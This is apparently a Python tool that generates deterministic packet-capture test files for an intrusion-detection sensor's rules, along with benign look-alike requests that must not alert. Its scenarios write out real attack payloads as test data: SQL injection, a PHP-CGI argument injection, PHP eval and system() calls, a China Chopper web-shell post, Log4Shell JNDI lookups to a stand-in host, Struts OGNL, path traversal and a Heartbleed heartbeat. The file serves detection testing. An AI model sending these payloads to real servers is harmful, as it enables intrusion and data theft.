#!/usr/bin/env python3
"""Writes small test captures for the bundled rules that no public capture
covers (China Chopper, Log4Shell in headers/URI, scanner user agents, ...),
plus a capture of benign look-alike requests that must not alert.

Each session is a real TCP conversation: three-way handshake, the request
(split into MSS-sized segments), the server's ACK and response, and the FIN
exchange, so a sensor's flow tracking and reassembly see normal traffic.
Output is deterministic (fixed clock and sequence numbers).

    python3 tools/make_attack_pcaps.py [OUTDIR]   # default test-pcaps/generated
"""
import os
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pcapgen as pg  # noqa: E402

MSS = 1400
CLIENT_MAC = bytes.fromhex("020000000001")
SERVER_MAC = bytes.fromhex("020000000002")


class Pcap:
    def __init__(self, path):
        self.f = open(path, "wb")
        self.f.write(pg.pcap_header(65535))
        self.t = 1795000000.0  # 2026-11-18, fixed so output is reproducible

    def tick(self):
        self.t += 0.001
        return self.t

    @staticmethod
    def packet(src, dst, sport, dport, seq, ack, flags, payload=b""):
        # clients live in 10/8 here
        dmac, smac = (SERVER_MAC, CLIENT_MAC) if src.startswith("10.") else (CLIENT_MAC, SERVER_MAC)
        seg = pg.tcp(src, dst, sport, dport, seq, ack, flags, payload, win=64240)
        return pg.eth(dmac, smac, pg.ipv4(src, dst, 6, seg, ident=1, flags_off=pg.IP_DF))

    def write(self, ts, pkt):
        sec = int(ts)  # truncated, not rounded: the committed captures were written so
        self.f.write(pg.pcap_record(sec, int((ts - sec) * 1e6), pkt))

    def frame(self, src, dst, sport, dport, seq, ack, flags, payload=b""):
        self.write(self.tick(), self.packet(src, dst, sport, dport, seq, ack, flags, payload))

    def session(self, request, response, cli="10.0.0.5", srv="192.0.2.80", sport=49152,
                dport=80):
        """One TCP conversation carrying request then response bytes."""
        for ts, pkt in pg.tcp_session(self.tick, self.packet, cli, srv, sport, dport, request,
                                      response, mss=MSS):
            self.write(ts, pkt)

    def close(self):
        self.f.close()


def http_req(method, target, host="www.example.com", ua="Mozilla/5.0 (X11; Linux x86_64; "
             "rv:120.0) Gecko/20100101 Firefox/120.0", headers=(), body=b""):
    h = ["%s %s HTTP/1.1" % (method, target), "Host: " + host, "User-Agent: " + ua,
         "Accept: */*"]
    h += list(headers)
    if body or method == "POST":
        h.append("Content-Type: application/x-www-form-urlencoded")
        h.append("Content-Length: %d" % len(body))
    h.append("Connection: close")
    return ("\r\n".join(h) + "\r\n\r\n").encode("latin-1") + body


def http_resp(body=b"<html><body>ok</body></html>", ctype="text/html", status="200 OK"):
    return ("HTTP/1.1 %s\r\nServer: Apache/2.4.57 (Debian)\r\nContent-Type: %s\r\n"
            "Content-Length: %d\r\nConnection: close\r\n\r\n" % (status, ctype, len(body))
            ).encode() + body


# China Chopper's PHP client posts this (FireEye, "Breaking Down the China
# Chopper Web Shell", 2013): the eval stub plus z0 = base64 of
# @ini_set("display_errors","0");@set_time_limit(0);...
CHOPPER_Z0 = ("QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpO0BzZXRfdGltZV9saW1pdCgwKTtAc2V0X21hZ2lj"
              "X3F1b3Rlc19ydW50aW1lKDApO2VjaG8oIi0%2BfCIpOzskRD1kaXJuYW1lKCRfU0VSVkVSWyJTQ1JJUFR"
              "fRklMRU5BTUUiXSk7")


def scenarios():
    """name -> list of (request, response)."""
    ok = http_resp()
    s = {}
    s["sqli-time-blind"] = [
        (http_req("GET", "/products.php?id=1%20AND%20SLEEP(5)--%20-"), ok),
        (http_req("GET", "/item.php?id=1+and+benchmark(5000000,md5(1))"), ok),
    ]
    s["sqli-post-union"] = [
        (http_req("POST", "/login.php",
                  body=b"user=admin%27+UNION+ALL+SELECT+NULL%2Cconcat(user%2Cpassword)+FROM+users"
                       b"--+-&pass=x&submit=Login"), ok),
    ]
    s["php-cgi-cve-2024-4577"] = [
        (http_req("POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+"
                  "auto_prepend_file%3Dphp://input",
                  body=b"<?php echo md5('spanwatch-test'); ?>"), ok),
    ]
    s["php-eval-body"] = [
        (http_req("POST", "/wp-content/plugins/x/ajax.php",
                  body=b"data=eval(base64_decode('ZWNobyAnc3BhbndhdGNoJzs='));"), ok),
    ]
    s["php-system-uri"] = [
        (http_req("GET", "/index.php?s=/index/think/app/invokefunction&function=call&arg=system(%27id%27)"), ok),
    ]
    s["china-chopper"] = [
        (http_req("POST", "/uploads/img.php", ua="Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)",
                  body=("caidao=@eval(base64_decode($_POST[z0]));&z0=" + CHOPPER_Z0).encode()),
         http_resp(b"->|/var/www/html/uploads\t/\tLinux\t|<-", ctype="text/html")),
    ]
    s["webshell-cmd"] = [
        (http_req("GET", "/images/up.php?cmd=whoami"),
         http_resp(b"<pre>www-data\n</pre>")),
    ]
    s["webshell-c99"] = [
        (http_req("GET", "/wp-content/uploads/2026/11/c.php"),
         http_resp(b"<html><head><title>c99shell v. 1.0 pre-release build #16</title></head>"
                   b"<body>Safe-mode: OFF (not secure)</body></html>")),
    ]
    s["log4shell-header"] = [
        (http_req("GET", "/", headers=["X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}"]), ok),
    ]
    s["log4shell-uri"] = [
        (http_req("GET", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D"), ok),
    ]
    s["log4shell-obfuscated"] = [
        (http_req("GET", "/", ua="${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.7/x}"), ok),
    ]
    s["struts-ognl-uri"] = [
        (http_req("GET", "/struts2-showcase/index.action?redirect:%24%7B%23context%5B%27xwork.Method"
                  "Accessor.denyMethodExecution%27%5D%3Dfalse%2C%23f%3D%23_memberAccess.getClass()"
                  ".getDeclaredField(%27allowStaticMethodAccess%27)%7D"), ok),
    ]
    s["traversal-double-encoded"] = [
        (http_req("GET", "/static/%252e%252e%252f%252e%252e%252f%252e%252e%252fetc/hosts"), ok),
    ]
    s["scanner-sqlmap"] = [
        (http_req("GET", "/item.php?id=1", ua="sqlmap/1.7.2#stable (https://sqlmap.org)"), ok),
    ]
    s["scanner-masscan"] = [
        (http_req("GET", "/", ua="masscan/1.3 (https://github.com/robertdavidgraham/masscan)"), ok),
    ]
    s["scanner-zgrab"] = [
        (http_req("GET", "/", ua="Mozilla/5.0 zgrab/0.x"), ok),
    ]
    s["scanner-nmap-nse"] = [
        (http_req("GET", "/", ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; "
                  "https://nmap.org/book/nse.html)"), ok),
    ]
    # A Linux bot fetching its next stage: minimal valid ELF64 header
    # (x86-64 ET_EXEC) followed by padding.
    elf = (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 +
           struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000, 64, 0, 0, 64, 56, 0, 64, 0, 0))
    s["elf-download"] = [
        (http_req("GET", "/bins/x86_64", host="192.0.2.80", ua="Wget/1.21.3"),
         http_resp(elf + b"\x00" * 448, ctype="application/octet-stream")),
    ]
    # Requests that resemble attacks and must NOT alert.
    s["benign-near-miss"] = [
        (http_req("GET", "/search?q=reunion+selection+union+station&lang=en"), ok),
        (http_req("GET", "/blog/how-to-sleep-better?ref=nav"), ok),
        (http_req("GET", "/docs/php/function.eval.html", ua="curl/8.4.0"), ok),
        (http_req("POST", "/comment", ua="python-requests/2.31.0",
                  body=b"text=I+will+evaluate+the+system+options+or+1+more&name=x"), ok),
        (http_req("GET", "/js/app.js?v=${version}"), ok),
        (http_req("GET", "/files/../assets/site.css"), ok),
        (http_req("GET", "/docs/etc/passwd-policy.html?page=terms&cmd=list"), ok),
        (http_req("GET", "/download/readme.txt"),
         http_resp(b"Readme: MZ is the DOS header; This program is documented here.", ctype="text/plain")),
        (http_req("GET", "/api/v1/status", headers=["X-Template: %{user}"],
                  ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
                     "Gecko) Chrome/120.0.0.0 Safari/537.36"),
         http_resp(b'{"status":"ok"}', ctype="application/json")),
    ]
    return s


def tls_sessions():
    """Heartbleed as ssltest.py (2014) sends it: a cleartext heartbeat right
    after the server's hello, record length 3, payload length 0x4000."""
    hello_body = (b"\x03\x02" + bytes(range(32)) + b"\x00" + b"\x00\x02\x00\x2f" + b"\x01\x00" +
                  b"\x00\x05\x00\x0f\x00\x01\x01")
    ch = b"\x01" + struct.pack("!I", len(hello_body))[1:] + hello_body
    client_hello = b"\x16\x03\x02" + struct.pack("!H", len(ch)) + ch
    sh_body = b"\x03\x02" + bytes(range(32, 64)) + b"\x00" + b"\x00\x2f" + b"\x00"
    sh = b"\x02" + struct.pack("!I", len(sh_body))[1:] + sh_body
    shd = b"\x0e\x00\x00\x00"
    server_hello = b"\x16\x03\x02" + struct.pack("!H", len(sh) + 4) + sh + shd
    heartbeat = b"\x18\x03\x02\x00\x03\x01\x40\x00"
    return client_hello, server_hello, heartbeat


def write_heartbleed(path):
    p = Pcap(path)
    ch, sh, hb = tls_sessions()
    # handshake, hello, hello, heartbeat; the server answers with 16 KB it
    # should not have sent
    cli, srv, sport, dport = "10.0.0.5", "192.0.2.44", 49200, 443
    SYN, ACK, PSH, FIN = pg.SYN, pg.ACK, pg.PSH, pg.FIN
    c, s = 7000, 9000
    p.frame(cli, srv, sport, dport, c, 0, SYN)
    p.frame(srv, cli, dport, sport, s, c + 1, SYN | ACK)
    c += 1
    s += 1
    p.frame(cli, srv, sport, dport, c, s, ACK)
    p.frame(cli, srv, sport, dport, c, s, ACK | PSH, ch)
    c += len(ch)
    p.frame(srv, cli, dport, sport, s, c, ACK | PSH, sh)
    s += len(sh)
    p.frame(cli, srv, sport, dport, c, s, ACK | PSH, hb)
    c += len(hb)
    leak = b"\x18\x03\x02\x40\x03\x02\x40\x00" + bytes((i * 7) & 0xFF for i in range(0x4000 - 5))
    for i in range(0, len(leak), MSS):
        seg = leak[i:i + MSS]
        p.frame(srv, cli, dport, sport, s, c, ACK | PSH, seg)
        s += len(seg)
    p.frame(cli, srv, sport, dport, c, s, FIN | ACK)
    p.frame(srv, cli, dport, sport, s, c + 1, FIN | ACK)
    p.frame(cli, srv, sport, dport, c + 1, s + 1, ACK)
    p.close()


def main():
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(root, "test-pcaps", "generated")
    os.makedirs(out, exist_ok=True)
    for name, sessions in scenarios().items():
        p = Pcap(os.path.join(out, name + ".pcap"))
        for i, (req, resp) in enumerate(sessions):
            p.session(req, resp, sport=49152 + i)
        p.close()
    write_heartbleed(os.path.join(out, "heartbleed-classic.pcap"))


if __name__ == "__main__":
    main()
